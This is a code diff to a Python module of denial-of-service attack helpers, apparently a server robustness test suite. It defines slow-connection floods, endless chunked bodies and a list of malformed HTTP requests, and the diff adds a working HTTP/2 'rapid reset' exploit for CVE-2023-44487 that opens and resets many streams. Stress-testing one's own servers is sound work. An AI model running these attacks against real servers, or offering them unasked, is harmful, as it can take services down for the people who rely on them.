@@ -48,14 +48,18 @@ class Address:
         return made
 
 
+# What an attack does, until the event is set.
+Work = Callable[[Address, threading.Event], None]
+
+
 class Attack:
     """An attack that lasts as long as the `with` block.
 
     Args:
-        work: what is done, given the address, until the event is set.
+        work: what is done to the address.
     """
 
-    def __init__(self, work: Callable[[Address, threading.Event], None], url: str) -> None:
+    def __init__(self, work: Work, url: str) -> None:
         self._end = threading.Event()
         self._thread = threading.Thread(target=work, args=(Address.of(url), self._end))
 
@@ -69,7 +73,7 @@ class Attack:
         self._thread.join(60)
 
 
-def crowd(count: int, head: str | bytes, piece: bytes = b"") -> Callable[..., None]:
+def crowd(count: int, head: str | bytes, piece: bytes = b"") -> Work:
     """Return an attack by many connections that read nothing.
 
     Args:
@@ -101,7 +105,7 @@ def sends(connection: socket.socket, data: bytes) -> bool:
         try:
             if data:
                 connection.sendall(data)
-            return b"" != connection.recv(1, socket.MSG_DONTWAIT | socket.MSG_PEEK)
+            return connection.recv(1, socket.MSG_DONTWAIT | socket.MSG_PEEK) != b""
         except BlockingIOError:
             return True
         except OSError as error:
@@ -112,7 +116,7 @@ def sends(connection: socket.socket, data: bytes) -> bool:
     return True
 
 
-def stream(requests: Iterable[bytes | Iterable[bytes]], pause: float) -> Callable[..., None]:
+def stream(requests: Iterable[bytes | Iterable[bytes]], pause: float) -> Work:
     """Return an attack by one request after the other, over a new connection each time."""
 
     def work(address: Address, end: threading.Event) -> None:
@@ -205,6 +209,23 @@ class Huge:
         yield endless(f"{FORM}Transfer-Encoding: chunked\r\n\r\n", 490, size, b"\r\n")
 
 
+def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
+    """Return a frame of HTTP/2."""
+    size, rest = len(payload).to_bytes(3, "big"), stream_id.to_bytes(4, "big")
+    return size + bytes([kind, flags]) + rest + payload
+
+
+def rapid_reset(connection: socket.socket, host: str, count: int) -> None:
+    """Open and reset so many streams of HTTP/2: https://www.cve.org/CVERecord?id=CVE-2023-44487."""
+    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
+    # GET, https, / and the name, as indexed headers.
+    headers = b"\x82\x87\x84\x41" + bytes([len(host)]) + host.encode()
+    with suppress(OSError):
+        for number in range(1, 2 * count, 2):
+            reset = frame(3, 0, number, (8).to_bytes(4, "big"))
+            connection.sendall(frame(1, 5, number, headers) + reset)
+
+
 LONG = "a" * 15000
 # Every limit and rule of a server that a request can break; none may harm others.
 MALFORMED = {
@@ -266,7 +287,7 @@ MALFORMED = {
     "an encoding with a tab": chunked(b"a").replace(b": chunked", b":\tchunked"),
     "an encoding on a folded line": chunked(b"a").replace(b": chunked", b":\r\n chunked"),
     "a bad size of a chunk": chunked(b"a").replace(b"1\r\na", b"zz\r\na"),
-    "a chunk with a long extension": chunked(b"a").replace(b"1\r\na", b"1;" + LONG.encode() + b"\r\na"),
+    "a chunk with a long extension": chunked(b"a").replace(b"1\r", f"1;{LONG}\r".encode()),
     "a trailer": chunked(b"a").replace(b"0\r\n\r\n", b"0\r\nHost: a\r\n\r\n"),
     "a body of a GET": post(b"a" * 1000).replace(b"POST", b"GET"),
     "an unexpected expectation": get(headers="Expect: tea\r\n"),
@@ -279,6 +300,6 @@ MALFORMED = {
     "a multipart form without an end": parts(1)[:-8],
     "a long boundary": parts(1, LONG[:9000]),
     "an unknown charset": post(form(target="x")).replace(b"urlencoded", b"urlencoded; charset=no"),
-    "a body for a page that reads none": post(b"a" * 900000).replace(b"POST /", b"POST /admin/none"),
+    "a body for a page that reads none": post(b"a" * 900000).replace(b"POST /", b"POST /admin/"),
     "a body for a page that is none": post(b"a" * 900000).replace(b"POST /", b"POST /no/where"),
 }  # fmt: skip
